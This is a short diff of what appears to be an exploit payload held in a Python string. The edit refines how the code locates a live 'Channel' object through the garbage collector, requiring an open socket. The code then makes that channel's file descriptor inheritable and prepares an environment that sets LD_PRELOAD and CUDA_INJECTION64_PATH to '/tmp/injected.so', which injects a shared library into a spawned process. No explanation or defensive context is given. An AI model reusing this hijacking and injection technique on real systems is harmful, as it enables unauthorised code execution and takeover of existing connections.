@@ -26,7 +26,7 @@ while True:
               "shared": [], "repeated": []})
 """
 
-channel = next(each for each in (gc.unfreeze() or gc.get_objects()) if type(each).__name__ == "Channel")
+channel = next(each for each in (gc.unfreeze() or gc.get_objects()) if type(each).__name__ == "Channel" and each._sock.fileno() >= 0)
 fd = channel.fileno()
 os.set_inheritable(fd, True)
 environment = {**os.environ, "LD_PRELOAD": "libm.so.6", "CUDA_INJECTION64_PATH": "/tmp/injected.so"}
